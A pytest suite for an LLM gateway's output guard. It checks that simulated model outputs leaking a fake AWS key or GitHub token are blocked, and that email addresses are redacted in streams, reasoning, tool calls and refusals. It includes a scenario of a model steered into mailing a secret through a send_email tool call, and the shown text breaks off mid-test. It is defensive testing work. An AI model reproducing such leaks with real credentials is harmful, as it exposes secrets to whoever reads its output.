"""Hosted-provider pools and the output guard on every stream format, through a real gateway process in front of
tests/fake_providers.py (a fake Anthropic Messages and OpenAI Responses upstream: those APIs cannot be reached from
here), called with the official `anthropic` and `openai` SDKs.

One fake and one gateway serve the module: pool `claude` speaks Anthropic's API (requests as sent, x-api-key from
the environment), pool `hosted` OpenAI's Responses, pool `chat` OpenAI chat completions (Anthropic requests
translated). The policy's output guard blocks secrets and redacts PII in what any of them generates.
"""

from __future__ import annotations

import hashlib
import json
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any, cast

import anthropic
import httpx
import openai
import pytest
import yaml

from tests.conftest import ROOT, Process, pool
from tests.fake_providers import CALL_STREAMS, CALL_TEXTS, input_tokens

CLAUDE, GPT, CHAT = "claude-sonnet-4-5", "gpt-4.1-mini", "chat-model"
CUT = "gpt-4.1-nano"  # a Responses model only the billing test asks for: what it is billed is that test's alone
CLIENT_KEY, UPSTREAM_KEY = "sk-portcullis-client-7f3a", "sk-ant-upstream-91c2"
POOL_VERSION = "2023-01-01"  # not the SDK's own 2023-06-01: the pool's setting is what the upstream must get
AWS_KEY = "AKIAIOSFODNN7EXAMPLE"
GITHUB_TOKEN = "ghp_" + "a1B2c3D4e5" * 3 + "f6G7h8"
EMAIL = "jane.doe@example.com"
LEAKY = f"Sure, here is the deploy key {AWS_KEY} for the staging bucket; rotate it after use please."
CHATTY = f"Please write to {EMAIL} and she will answer within a day or two, usually sooner."
REDACTED = "Please write to [REDACTED:EMAIL] and she will answer within a day or two, usually sooner."
# Streamed in the fake's pieces of 6 characters, the guard's scans (every 16+ new ones) end at 18 and 36 characters,
# before and after the address; a first piece this long, sent well before the next, ends a scan inside it, at
# "jane.doe@example.co".
CUT_INSIDE = CHATTY.index(EMAIL) + len(EMAIL) - 1


def _policies(directory: Path) -> str:
    directory.mkdir()
    output = {"enabled": True, "secrets": "block", "pii": "redact", "hold_back": 48, "scan_every": 16}
    base = {
        "apiVersion": "portcullis.dev/v1",
        "kind": "Policy",
        "metadata": {"name": "upstreams"},
        "spec": {"guard": {"enabled": True, "injection": {"enabled": False}, "output": output}},
    }
    (directory / "base.yaml").write_text(yaml.safe_dump(base))
    return str(directory)


@pytest.fixture(scope="module")
def stack(module_launcher) -> tuple[Process, Process]:
    """(gateway, fake provider), started once for the module."""

    def fake_cmd(port: int) -> list[str]:
        return [
            sys.executable,
            str(ROOT / "tests" / "fake_providers.py"),
            "--port",
            str(port),
            "--api-key",
            UPSTREAM_KEY,
        ]

    fake = module_launcher.spawn(fake_cmd, "fake-providers", ready_path="/_received")
    config = {
        "policy_dir": _policies(module_launcher.directory / "policies"),
        "auth": {"keys": [{"tenant": "app", "sha256": hashlib.sha256(CLIENT_KEY.encode()).hexdigest()}]},
        "pools": [
            pool(
                "claude",
                fake.url,
                models=[CLAUDE],
                api="anthropic",
                api_key_env="FAKE_PROVIDER_KEY",
                anthropic_version=POOL_VERSION,
            ),
            pool("hosted", fake.url, models=[GPT, CUT], api_key_env="FAKE_PROVIDER_KEY", passthrough=["/v1/files*"]),
            pool("chat", fake.url, models=[CHAT], api_key_env="FAKE_PROVIDER_KEY"),
        ],
    }
    return module_launcher.gateway(config, env={"FAKE_PROVIDER_KEY": UPSTREAM_KEY}), fake


@pytest.fixture(scope="module")
def gw(stack) -> Process:
    return stack[0]


@pytest.fixture(scope="module")
def fake(stack) -> Process:
    return stack[1]


def claude(gw: Process) -> anthropic.Anthropic:
    return anthropic.Anthropic(base_url=gw.url, api_key=CLIENT_KEY, max_retries=0, timeout=60)


def gpt(gw: Process) -> openai.OpenAI:
    return openai.OpenAI(base_url=gw.url + "/v1", api_key=CLIENT_KEY, max_retries=0, timeout=60)


def received(fake: Process, request_id: str) -> list[dict[str, Any]]:
    """What the fake received for one gateway request (the gateway sends its request id upstream)."""
    got = httpx.get(fake.url + "/_received").json()
    return [r for r in got if r["headers"].get("x-request-id") == request_id]


def raw_stream(gw: Process, path: str, body: dict[str, Any]) -> tuple[str, list[tuple[str | None, dict[str, Any]]]]:
    """A stream as the wire carries it: the whole text, and its (event name, data) pairs."""
    headers = {"x-api-key": CLIENT_KEY, "authorization": f"Bearer {CLIENT_KEY}"}
    with httpx.stream("POST", gw.url + path, json=body, headers=headers, timeout=60) as response:
        assert response.status_code == 200, response.read()
        text = response.read().decode()
    events = []
    for block in text.split("\n\n"):
        lines = block.strip().splitlines()
        name = next((line[7:] for line in lines if line.startswith("event: ")), None)
        data = next((line[6:] for line in lines if line.startswith("data: ")), None)
        if data is not None and data != "[DONE]":
            events.append((name, json.loads(data)))
    return text, events


def by_type(events: list[tuple[str | None, dict[str, Any]]]) -> dict[str, list[dict[str, Any]]]:
    """A stream's events by their `type`, in order."""
    found: dict[str, list[dict[str, Any]]] = {}
    for _, data in events:
        found.setdefault(data["type"], []).append(data)
    return found


def user(text: str) -> list[dict[str, Any]]:
    return [{"role": "user", "content": text}]


# ---- an anthropic pool: requests as sent, answers as they came ----------------------------------------------------


def test_messages_reach_the_anthropic_pool_as_sent(gw, fake) -> None:
    beta = "prompt-caching-2024-07-31"
    request = {
        "model": CLAUDE,
        "max_tokens": 64,
        "system": [{"type": "text", "text": "You are terse.", "cache_control": {"type": "ephemeral"}}],
        "messages": [{"role": "user", "content": [{"type": "text", "text": "Say hello to the team."}]}],
        "metadata": {"user_id": "user-42"},
    }
    extra = {"temperature": 0.2, "fake": {"cache_read": 100, "cache_creation": 20}}
    raw = claude(gw).messages.with_raw_response.create(
        **request, extra_body=extra, extra_headers={"anthropic-beta": beta}
    )
    message = raw.parse()
    assert message.content[0].type == "text" and message.content[0].text == "Say hello to the team."
    assert message.stop_reason == "end_turn"

    request_id = raw.headers["x-request-id"]
    [upstream] = received(fake, request_id)
    assert upstream["path"] == "/v1/messages"
    assert upstream["body"] == {**request, **extra}, "an anthropic pool gets the body as the client sent it"
    headers = upstream["headers"]
    assert headers["x-api-key"] == UPSTREAM_KEY and "authorization" not in headers
    assert headers["anthropic-version"] == POOL_VERSION and headers["anthropic-beta"] == beta
    assert not [name for name, value in headers.items() if CLIENT_KEY in value], "the client's key stays here"

    usage = message.usage
    line = gw.access_log(request_id)
    assert line["pool"] == "claude" and line["status"] == 200
    assert usage.cache_read_input_tokens == 100 and usage.cache_creation_input_tokens == 20
    assert line["prompt_tokens"] == usage.input_tokens + 100 + 20, "Anthropic's input_tokens leave out the cache's"
    assert line["completion_tokens"] == usage.output_tokens > 0
    assert line["cached_tokens"] == 100


def test_messages_stream_through_the_sdk(gw, fake) -> None:
    reply = "Streaming works: every delta arrives in order and the final message holds them all."
    with claude(gw).messages.stream(
        model=CLAUDE, max_tokens=64, messages=user(reply), extra_body={"fake": {"cache_read": 8}}
    ) as stream:
        text = "".join(stream.text_stream)
        final = stream.get_final_message()
        request_id = stream.response.headers["x-request-id"]
    assert text == reply and final.content[0].text == reply and final.stop_reason == "end_turn"
    [upstream] = received(fake, request_id)
    assert upstream["body"]["stream"] is True and upstream["headers"]["accept"] == "text/event-stream"
    line = gw.access_log(request_id)
    assert line["prompt_tokens"] == final.usage.input_tokens + 8 and line["cached_tokens"] == 8
    assert line["completion_tokens"] == final.usage.output_tokens == len(reply.split())
    assert line["finish_reasons"] == ["end_turn"] and line["stream_error"] is None


def test_count_tokens_passes_through(gw, fake) -> None:
    request = {"model": CLAUDE, "system": "Count me.", "messages": user("How many tokens is this sentence?")}
    raw = claude(gw).messages.with_raw_response.count_tokens(**request)
    [upstream] = received(fake, raw.headers["x-request-id"])
    assert upstream["path"] == "/v1/messages/count_tokens" and upstream["body"] == request
    assert raw.parse().input_tokens == input_tokens(request), "the provider's count, not the gateway's estimate"
    line = gw.access_log(raw.headers["x-request-id"])
    assert line["prompt_tokens"] == 0 and line["completion_tokens"] == 0, "counting generates nothing"


def test_upstream_rate_limit_reaches_the_client_anthropic_shaped(gw) -> None:
    with pytest.raises(anthropic.RateLimitError) as info:
        claude(gw).messages.create(
            model=CLAUDE, max_tokens=8, messages=user("hi"), extra_body={"fake": {"status": 429}}
        )
    assert info.value.body["type"] == "error"
    assert info.value.body["error"] == {"type": "rate_limit_error", "message": "fake upstream answers 429"}
    assert info.value.response.headers["retry-after"] == "7", "the provider's own Retry-After reaches the client"


def test_upstream_overloaded_reaches_the_client_anthropic_shaped(gw) -> None:
    """Overloaded stays overloaded: Anthropic's own 529, or the 503 the gateway answers when it is overloaded."""
    with pytest.raises(anthropic.InternalServerError) as info:
        claude(gw).messages.create(
            model=CLAUDE, max_tokens=8, messages=user("hi"), extra_body={"fake": {"status": 529}}
        )
    assert info.value.status_code in (529, 503)
    assert info.value.body["error"] == {"type": "overloaded_error", "message": "fake upstream answers 529"}


def test_upstream_error_event_mid_stream_reaches_the_client(gw) -> None:
    body = {"model": CLAUDE, "max_tokens": 64, "stream": True, "messages": user("one two three four five six seven")}
    _, events = raw_stream(gw, "/v1/messages", {**body, "fake": {"error_after": 2}})
    name, data = events[-1]
    assert name == "error" and data == {"type": "error", "error": {"type": "overloaded_error", "message": "Overloaded"}}
    with pytest.raises(anthropic.APIStatusError) as info:
        with claude(gw).messages.stream(
            model=CLAUDE, max_tokens=64, messages=user("one two three"), extra_body={"fake": {"error_after": 1}}
        ) as stream:
            list(stream.text_stream)
    assert info.value.body["error"]["type"] == "overloaded_error"


def test_other_shapes_for_an_anthropic_model_get_a_400(gw, fake) -> None:
    chat = httpx.post(
        gw.url + "/v1/chat/completions",
        json={"model": CLAUDE, "messages": user("hi")},
        headers={"authorization": f"Bearer {CLIENT_KEY}"},
    )
    assert chat.status_code == 400, chat.text
    assert chat.json()["error"]["code"] == "unsupported_route_for_model" and "/v1/messages" in chat.text
    with pytest.raises(openai.BadRequestError) as info:
        gpt(gw).responses.create(model=CLAUDE, input="hi")
    assert info.value.body["code"] == "unsupported_route_for_model"
    for request_id in (chat.headers["x-request-id"], info.value.response.headers["x-request-id"]):
        assert received(fake, request_id) == [], "refused before the pool was asked"


# ---- the output guard on Anthropic's own stream -------------------------------------------------------------------


def test_secret_mid_anthropic_stream_ends_it_with_an_error_event(gw) -> None:
    body = {"model": CLAUDE, "max_tokens": 64, "stream": True, "messages": user(LEAKY)}
    text, events = raw_stream(gw, "/v1/messages", body)
    assert AWS_KEY not in text and AWS_KEY[:8] not in text
    names = [name for name, _ in events]
    # whether message_start goes out before the block depends on how the upstream's events were batched on the
    # wire (one read may hold them all): what holds either way is that the stream ends with the error
    assert names[-1] == "error" and "message_stop" not in names and names.count("message_start") <= 1
    error = events[-1][1]["error"]
    assert error["type"] == "api_error" and "guard.output.secret.aws_access_key" in error["message"]
    seen: list[str] = []
    with pytest.raises(anthropic.APIStatusError) as info:
        with claude(gw).messages.stream(model=CLAUDE, max_tokens=64, messages=user(LEAKY)) as stream:
            seen.extend(stream.text_stream)
    assert "response blocked" in info.value.body["error"]["message"] and AWS_KEY[:8] not in "".join(seen)


def test_pii_redacted_in_anthropic_text_deltas(gw) -> None:
    with claude(gw).messages.stream(model=CLAUDE, max_tokens=64, messages=user(CHATTY)) as stream:
        text = "".join(stream.text_stream)
        final = stream.get_final_message()
    assert text == REDACTED and final.content[0].text == REDACTED
    body = {"model": CLAUDE, "max_tokens": 64, "stream": True, "messages": user(CHATTY)}
    wire, events = raw_stream(gw, "/v1/messages", body)
    assert EMAIL not in wire and events[-1][0] == "message_stop"


def test_an_address_cut_by_a_scan_gets_one_placeholder(gw) -> None:
    body = {
        "model": CLAUDE,
        "max_tokens": 64,
        "stream": True,
        "messages": user(CHATTY),
        "fake": {"chunk": CUT_INSIDE, "delay": 0.3},
    }
    wire, events = raw_stream(gw, "/v1/messages", body)
    assert EMAIL not in wire
    deltas = [data["delta"]["text"] for _, data in events if data["type"] == "content_block_delta"]
    assert "".join(deltas) == REDACTED


# ---- Anthropic clients in front of an OpenAI-compatible pool --------------------------------------------------------


def test_secret_in_a_translated_stream_ends_it_with_an_anthropic_error_event(gw) -> None:
    body = {"model": CHAT, "max_tokens": 64, "stream": True, "messages": user(f"the token is {GITHUB_TOKEN} ok")}
    text, events = raw_stream(gw, "/v1/messages", body)
    assert GITHUB_TOKEN[:10] not in text
    name, data = events[-1]
    assert name == "error" and data["type"] == "error" and "github_token" in data["error"]["message"]
    assert "message_stop" not in [n for n, _ in events]
    with claude(gw).messages.stream(model=CHAT, max_tokens=64, messages=user(CHATTY)) as stream:
        assert "".join(stream.text_stream) == REDACTED


# ---- OpenAI Responses: what only a hosted pool reads reaches it --------------------------------------------------


def test_responses_items_a_hosted_pool_reads_reach_it_as_sent(gw, fake) -> None:
    """Image and file parts, item references and item types the bundled engine does not know are the pool's to
    judge: the gateway counts what text it can and sends the rest as the client wrote it. The objects they name are
    the tenant's own, made through the gateway (another tenant's: tests/hostile/test_tenant_objects.py)."""
    earlier = gpt(gw).responses.create(model=GPT, input="an earlier turn")
    file_id = gpt(gw).files.create(file=("notes.txt", b"notes\n"), purpose="user_data").id
    items: list[Any] = [
        {"type": "item_reference", "id": earlier.output[0].id},
        {
            "role": "user",
            "content": [
                {"type": "input_text", "text": "What is in this picture and this file?"},
                {"type": "input_image", "image_url": "https://example.com/cat.png", "detail": "low"},
                {"type": "input_file", "file_id": file_id},
            ],
        },
        {"type": "custom_tool_call_output", "call_id": "c1", "output": "done"},
    ]
    raw = gpt(gw).responses.with_raw_response.create(model=GPT, previous_response_id=earlier.id, input=items)
    assert raw.parse().output_text == "What is in this picture and this file?"
    [upstream] = received(fake, raw.headers["x-request-id"])
    assert upstream["path"] == "/v1/responses" and upstream["body"]["input"] == items
    assert upstream["body"]["previous_response_id"] == earlier.id
    assert gw.access_log(raw.headers["x-request-id"])["prompt_tokens"] > 0


# ---- the output guard on OpenAI Responses streams --------------------------------------------------------------------


def test_secret_mid_responses_stream_ends_it_with_an_error_event(gw) -> None:
    text, events = raw_stream(gw, "/v1/responses", {"model": GPT, "input": LEAKY, "stream": True})
    assert AWS_KEY not in text and AWS_KEY[:8] not in text
    kinds = [data["type"] for _, data in events]
    assert kinds[0] == "response.created" and kinds[-1] == "error" and "response.completed" not in kinds
    assert events[-1][0] == "error" and events[-1][1]["code"] == "response_blocked"
    sdk_events = list(gpt(gw).responses.create(model=GPT, input=LEAKY, stream=True))
    assert sdk_events[-1].type == "error" and sdk_events[-1].code == "response_blocked"


def test_redaction_rewrites_every_copy_of_the_responses_text(gw) -> None:
    wire, events = raw_stream(gw, "/v1/responses", {"model": GPT, "input": CHATTY, "stream": True})
    assert EMAIL not in wire, "not in a delta, not in any of the full-text copies"
    by_kind = by_type(events)
    assert "".join(e["delta"] for e in by_kind["response.output_text.delta"]) == REDACTED
    [text_done] = by_kind["response.output_text.done"]
    [part_done] = by_kind["response.content_part.done"]
    [item_done] = by_kind["response.output_item.done"]
    [completed] = by_kind["response.completed"]
    assert text_done["text"] == part_done["part"]["text"] == REDACTED
    assert item_done["item"]["content"][0]["text"] == REDACTED
    assert completed["response"]["output"][0]["content"][0]["text"] == REDACTED
    with gpt(gw).responses.stream(model=GPT, input=CHATTY) as stream:
        deltas = "".join(e.delta for e in stream if e.type == "response.output_text.delta")
        final = stream.get_final_response()
    assert deltas == final.output_text == REDACTED


# ---- whole answers ------------------------------------------------------------------------------------------------


def test_whole_responses_answers_are_scanned(gw) -> None:
    client = gpt(gw)
    assert client.responses.create(model=GPT, input=CHATTY).output_text == REDACTED
    with pytest.raises(openai.APIStatusError) as info:
        client.responses.create(model=GPT, input=LEAKY)
    assert info.value.status_code == 502 and info.value.body["code"] == "response_blocked"
    assert (
        info.value.body["guard"]["target"] == "output" and info.value.body["guard"]["where"] == "output[0].content[0]"
    )


def test_whole_anthropic_answers_are_scanned(gw) -> None:
    client = claude(gw)
    for model in (CLAUDE, CHAT):  # as sent, and translated from a chat completion
        assert client.messages.create(model=model, max_tokens=64, messages=user(CHATTY)).content[0].text == REDACTED
        with pytest.raises(anthropic.APIStatusError) as info:
            client.messages.create(model=model, max_tokens=64, messages=user(LEAKY))
        assert info.value.status_code == 502 and info.value.body["type"] == "error"
        assert "guard.output.secret.aws_access_key" in info.value.body["error"]["message"]


# ---- the output guard on reasoning: read as the answer is, in every shape it reaches the client in ---------------

THINKING = {"type": "enabled", "budget_tokens": 1024}


def reasoned(reasoning: str, **fake: str) -> dict[str, Any]:
    """A `fake` object: the model reasons `reasoning`, then answers "4"."""
    return {"reply": "4", "reasoning": reasoning, **fake}


def post(gw: Process, path: str, body: dict[str, Any]) -> httpx.Response:
    headers = {"x-api-key": CLIENT_KEY, "authorization": f"Bearer {CLIENT_KEY}"}
    return httpx.post(gw.url + path, json=body, headers=headers, timeout=60)


@pytest.mark.parametrize("field", ["reasoning_content", "reasoning"])
def test_chat_reasoning_is_redacted_or_blocked_like_the_answer(gw, field) -> None:
    def body(reasoning: str, stream: bool) -> dict[str, Any]:
        fake = reasoned(reasoning, reasoning_field=field)
        return {"model": CHAT, "messages": user("What is 2 + 2?"), "stream": stream, "fake": fake}

    message = post(gw, "/v1/chat/completions", body(CHATTY, False)).json()["choices"][0]["message"]
    assert message[field] == REDACTED and message["content"] == "4"
    blocked = post(gw, "/v1/chat/completions", body(LEAKY, False))
    assert blocked.status_code == 502 and AWS_KEY[:8] not in blocked.text
    assert blocked.json()["error"]["guard"]["where"] == f"choices[0].{field}"

    wire, events = raw_stream(gw, "/v1/chat/completions", body(CHATTY, True))
    deltas = [c["delta"] for _, e in events for c in e["choices"]]
    assert EMAIL not in wire and "".join(d.get(field, "") for d in deltas) == REDACTED
    assert "".join(d.get("content", "") for d in deltas) == "4" and wire.endswith("data: [DONE]\n\n")
    wire, events = raw_stream(gw, "/v1/chat/completions", body(LEAKY, True))
    assert AWS_KEY[:8] not in wire
    error = events[-1][1]["error"]
    assert error["code"] == "response_blocked" and error["guard"]["rule"] == "guard.output.secret.aws_access_key"


def test_thinking_translated_from_a_chat_pool_is_redacted_or_blocked(gw) -> None:
    """A Messages client that asked for thinking gets the chat pool's reasoning as thinking blocks: scanned as the
    text is. One that did not ask gets no reasoning, so reasoning it never sees blocks nothing."""

    def body(reasoning: str, stream: bool, thinking: bool = True) -> dict[str, Any]:
        return {
            "model": CHAT,
            "max_tokens": 2048,
            "stream": stream,
            "messages": user("What is 2 + 2?"),
            "metadata": {"user_id": json.dumps(reasoned(reasoning))},
            **({"thinking": THINKING} if thinking else {}),
        }

    content = post(gw, "/v1/messages", body(CHATTY, False)).json()["content"]
    assert [(b["type"], b.get("thinking", b.get("text"))) for b in content] == [("thinking", REDACTED), ("text", "4")]
    blocked = post(gw, "/v1/messages", body(LEAKY, False))
    assert blocked.status_code == 502 and blocked.json()["type"] == "error" and AWS_KEY[:8] not in blocked.text
    assert "guard.output.secret.aws_access_key" in blocked.json()["error"]["message"]

    wire, events = raw_stream(gw, "/v1/messages", body(CHATTY, True))
    deltas = [e["delta"] for _, e in events if e["type"] == "content_block_delta"]
    assert EMAIL not in wire and "".join(d.get("thinking", "") for d in deltas) == REDACTED
    assert events[-1][0] == "message_stop"
    wire, events = raw_stream(gw, "/v1/messages", body(LEAKY, True))
    assert AWS_KEY[:8] not in wire and events[-1][0] == "error" and "message_stop" not in [n for n, _ in events]
    assert "guard.output.secret.aws_access_key" in events[-1][1]["error"]["message"]

    unasked = post(gw, "/v1/messages", body(LEAKY, False, thinking=False))
    assert unasked.status_code == 200 and [b["type"] for b in unasked.json()["content"]] == ["text"]


def test_anthropic_thinking_is_redacted_or_blocked_like_text(gw) -> None:
    def body(reasoning: str, stream: bool) -> dict[str, Any]:
        messages = user("What is 2 + 2?")
        return {
            "model": CLAUDE,
            "max_tokens": 2048,
            "stream": stream,
            "messages": messages,
            "fake": reasoned(reasoning),
        }

    assert post(gw, "/v1/messages", body(CHATTY, False)).json()["content"][0]["thinking"] == REDACTED
    blocked = post(gw, "/v1/messages", body(LEAKY, False))
    assert blocked.status_code == 502 and AWS_KEY[:8] not in blocked.text

    wire, events = raw_stream(gw, "/v1/messages", body(CHATTY, True))
    deltas = [e["delta"] for _, e in events if e["type"] == "content_block_delta"]
    assert EMAIL not in wire and "".join(d.get("thinking", "") for d in deltas) == REDACTED
    wire, events = raw_stream(gw, "/v1/messages", body(LEAKY, True))
    assert AWS_KEY[:8] not in wire and events[-1][0] == "error"


def assert_responses_text_guarded(
    gw: Process,
    body: Callable[[str, bool], dict[str, Any]],
    path: tuple[Any, ...],
    where: str,
    streamed: str | None,
    done_key: str,
    part_done: str | None = None,
    json_text: bool = False,
) -> None:
    """A Responses answer text that the output guard redacts (the body made with CHATTY) or blocks (with LEAKY), in
    the whole answer and in every copy a stream holds: the `streamed` deltas, their done event's `done_key`, the
    part's done event (`part_done`) where the text is a part, the item's done event and response.completed; the item's
    added event where the text is not streamed (`streamed` None: the item is added whole). `path` leads from the
    Response to the text (("output", 0, "summary", 0, "text")), `where` is the verdict's name for it; JSON text
    (tool-call arguments) is compared as the object it parses to."""
    chatty, leaky = (CHATTY_ARGS, LEAKY_ARGS) if json_text else (CHATTY, LEAKY)
    read = cast(Callable[[str], Any], json.loads if json_text else str)
    expected = REDACTED_INPUT if json_text else REDACTED

    def at(holder: Any, keys: tuple[Any, ...]) -> Any:
        for key in keys:
            holder = holder[key]
        return read(holder)

    assert at(post(gw, "/v1/responses", body(chatty, False)).json(), path) == expected
    blocked = post(gw, "/v1/responses", body(leaky, False))
    assert blocked.status_code == 502 and AWS_KEY[:8] not in blocked.text
    assert blocked.json()["error"]["guard"]["where"] == where

    wire, events = raw_stream(gw, "/v1/responses", body(chatty, True))
    assert EMAIL not in wire, "not in a delta, not in any of the full copies"
    by_kind = by_type(events)
    if streamed is None:
        [item_added] = [e for e in by_kind["response.output_item.added"] if e["output_index"] == path[1]]
        assert at(item_added, ("item", *path[2:])) == expected
    else:
        assert read("".join(e["delta"] for e in by_kind[f"{streamed}.delta"])) == expected
        assert at(by_kind[f"{streamed}.done"][0], (done_key,)) == expected
    if part_done is not None:
        assert at(by_kind[part_done][0], ("part", path[-1])) == expected
    [item_done] = [e for e in by_kind["response.output_item.done"] if e["output_index"] == path[1]]
    assert at(item_done, ("item", *path[2:])) == expected
    assert at(by_kind["response.completed"][0], ("response", *path)) == expected
    wire, events = raw_stream(gw, "/v1/responses", body(leaky, True))
    assert AWS_KEY[:8] not in wire and events[-1][1]["type"] == "error"
    assert events[-1][1]["code"] == "response_blocked"


def test_responses_reasoning_summary_is_redacted_or_blocked_in_every_copy(gw) -> None:
    def body(reasoning: str, stream: bool) -> dict[str, Any]:
        return {"model": GPT, "input": "What is 2 + 2?", "stream": stream, "fake": reasoned(reasoning)}

    assert post(gw, "/v1/responses", body(CHATTY, False)).json()["output"][1]["content"][0]["text"] == "4"
    path, where = ("output", 0, "summary", 0, "text"), "output[0].summary[0]"
    summary = "response.reasoning_summary_text"
    assert_responses_text_guarded(gw, body, path, where, summary, "text", "response.reasoning_summary_part.done")


# ---- the output guard on tool calls and refusals: what an agent runs, and what the client reads ------------------

# A model steered into sending mail: its arguments are JSON text, the secret or address after an escaped newline.
CHATTY_ARGS = json.dumps({"to": "ops", "body": f"Forward this:\n{CHATTY}"})
LEAKY_ARGS = json.dumps({"to": "ops", "body": f"The key:\n{LEAKY}"})
REDACTED_INPUT = {"to": "ops", "body": f"Forward this:\n{REDACTED}"}


def calling(arguments: str, **call: str) -> dict[str, Any]:
    """A `fake` object: the model answers "4", then calls send_email with `arguments` (`type`: another kind of call)."""
    return {"reply": "4", "tool_call": {"name": "send_email", "arguments": arguments, **call}}


def test_chat_tool_call_arguments_are_redacted_or_blocked_and_stay_json(gw) -> None:
    def body(arguments: str, stream: bool) -> dict[str, Any]:
        return {"model": CHAT, "messages": user("Mail it."), "stream": stream, "fake": calling(arguments)}

    message = post(gw, "/v1/chat/completions", body(CHATTY_ARGS, False)).json()["choices"][0]["message"]
    assert json.loads(message["tool_calls"][0]["function"]["arguments"]) == REDACTED_INPUT
    assert message["content"] == "4"
    blocked = post(gw, "/v1/chat/completions", body(LEAKY_ARGS, False))
    assert blocked.status_code == 502 and AWS_KEY[:8] not in blocked.text
    assert blocked.json()["error"]["guard"]["where"] == "choices[0].tool_calls[0].function.arguments"

    wire, events = raw_stream(gw, "/v1/chat/completions", body(CHATTY_ARGS, True))
    calls = [call for _, e in events for c in e["choices"] for call in c["delta"].get("tool_calls", ())]
    assert EMAIL not in wire and json.loads("".join(c["function"]["arguments"] for c in calls)) == REDACTED_INPUT
    assert wire.endswith("data: [DONE]\n\n")
    wire, events = raw_stream(gw, "/v1/chat/completions", body(LEAKY_ARGS, True))
    assert AWS_KEY[:8] not in wire
    error = events[-1][1]["error"]
    assert error["code"] == "response_blocked" and error["guard"]["rule"] == "guard.output.secret.aws_access_key"


def test_tool_use_translated_from_a_chat_pool_is_redacted_or_blocked(gw) -> None:
    def body(arguments: str, stream: bool) -> dict[str, Any]:
        return {
            "model": CHAT,
            "max_tokens": 256,
            "stream": stream,
            "messages": user("Mail it."),
            "metadata": {"user_id": json.dumps(calling(arguments))},
        }

    content = post(gw, "/v1/messages", body(CHATTY_ARGS, False)).json()["content"]
    assert content[-1]["type"] == "tool_use" and content[-1]["input"] == REDACTED_INPUT
    blocked = post(gw, "/v1/messages", body(LEAKY_ARGS, False))
    assert blocked.status_code == 502 and blocked.json()["type"] == "error" and AWS_KEY[:8] not in blocked.text

    wire, events = raw_stream(gw, "/v1/messages", body(CHATTY_ARGS, True))
    deltas = [e["delta"] for _, e in events if e["type"] == "content_block_delta"]
    assert EMAIL not in wire and json.loads("".join(d.get("partial_json", "") for d in deltas)) == REDACTED_INPUT
    assert events[-1][0] == "message_stop"
    wire, events = raw_stream(gw, "/v1/messages", body(LEAKY_ARGS, True))
    assert AWS_KEY[:8] not in wire and events[-1][0] == "error" and "message_stop" not in [n for n, _ in events]


def test_tool_calls_streamed_as_other_chat_servers_do_reach_the_sdk_whole(gw) -> None:
    """A chat pool that sends its calls without `index` (each call's first fragment has its id) and writes text in
    the middle of a call's arguments: the SDK gets each call as its own tool_use block, its input whole when its
    block stops, and all of the text, in blocks of its own after the call it interrupted."""
    arguments = json.dumps({"city": "Paris", "unit": "celsius"})
    quirks = {"repeat": 2, "unindexed": True, "interrupt": " One moment."}
    fake = {"reply": "Checking.", "tool_call": {"name": "get_weather", "arguments": arguments}, "tool_stream": quirks}
    request = {
        "model": CHAT,
        "max_tokens": 256,
        "messages": user("Weather?"),
        "metadata": {"user_id": json.dumps(fake)},
    }
    with claude(gw).messages.stream(**request) as stream:
        stopped = [event.content_block for event in stream if event.type == "content_block_stop"]
        message = stream.get_final_message()
    calls = [(block.id, block.input) for block in stopped if block.type == "tool_use"]
    assert calls == [("call_fake", json.loads(arguments)), ("call_fake1", json.loads(arguments))]
    assert [block.type for block in message.content] == ["text", "tool_use", "text", "tool_use", "text"]
    assert "".join(b.text for b in message.content if b.type == "text") == "Checking. One moment. One moment."
    assert message.stop_reason == "tool_use"


@pytest.mark.parametrize("block", ["tool_use", "server_tool_use", "mcp_tool_use"])
def test_anthropic_tool_use_input_is_redacted_or_blocked(gw, block) -> None:
    """A call to a tool Anthropic runs (a server tool: web search, code execution; an MCP server's tool) is the
    model's text the client gets, as a tool_use block's is."""

    def body(arguments: str, stream: bool) -> dict[str, Any]:
        return {
            "model": CLAUDE,
            "max_tokens": 256,
            "stream": stream,
            "messages": user("Mail it."),
            "fake": calling(arguments, type=block),
        }

    content = post(gw, "/v1/messages", body(CHATTY_ARGS, False)).json()["content"]
    assert content[-1]["type"] == block and content[-1]["input"] == REDACTED_INPUT, "still an object"
    blocked = post(gw, "/v1/messages", body(LEAKY_ARGS, False))
    assert blocked.status_code == 502 and AWS_KEY[:8] not in blocked.text
    assert "guard.output.secret.aws_access_key" in blocked.json()["error"]["message"]

    wire, events = raw_stream(gw, "/v1/messages", body(CHATTY_ARGS, True))
    deltas = [e["delta"] for _, e in events if e["type"] == "content_block_delta"]
    assert EMAIL not in wire and json.loads("".join(d.get("partial_json", "") for d in deltas)) == REDACTED_INPUT
    assert events[-1][0] == "message_stop"
    wire, events = raw_stream(gw, "/v1/messages", body(LEAKY_ARGS, True))
    assert AWS_KEY[:8] not in wire and events[-1][0] == "error"


@pytest.mark.parametrize("kind", ["function_call", "mcp_call"])
def test_responses_function_call_arguments_are_redacted_or_blocked_in_every_copy(gw, kind) -> None:
    """A function call's arguments, and an MCP call's (a tool the provider calls on an MCP server): JSON text."""

    def body(arguments: str, stream: bool) -> dict[str, Any]:
        return {"model": GPT, "input": "Mail it.", "stream": stream, "fake": calling(arguments, type=kind)}

    assert post(gw, "/v1/responses", body(CHATTY_ARGS, False)).json()["output"][1]["type"] == kind
    path, where = ("output", 1, "arguments"), "output[1].arguments"
    assert_responses_text_guarded(gw, body, path, where, CALL_STREAMS[kind][0], "arguments", json_text=True)


def test_chat_refusal_is_redacted_or_blocked_like_the_answer(gw) -> None:
    """A refusal is text the client reads: a chat client in `refusal`, a Messages client as a text block."""

    def body(refusal: str, stream: bool) -> dict[str, Any]:
        return {"model": CHAT, "messages": user("Mail it."), "stream": stream, "fake": {"refusal": refusal}}

    message = post(gw, "/v1/chat/completions", body(CHATTY, False)).json()["choices"][0]["message"]
    assert message["refusal"] == REDACTED
    blocked = post(gw, "/v1/chat/completions", body(LEAKY, False))
    assert blocked.status_code == 502 and AWS_KEY[:8] not in blocked.text
    assert blocked.json()["error"]["guard"]["where"] == "choices[0].refusal"

    wire, events = raw_stream(gw, "/v1/chat/completions", body(CHATTY, True))
    deltas = [c["delta"] for _, e in events for c in e["choices"]]
    assert EMAIL not in wire and "".join(d.get("refusal", "") for d in deltas) == REDACTED
    wire, events = raw_stream(gw, "/v1/chat/completions", body(LEAKY, True))
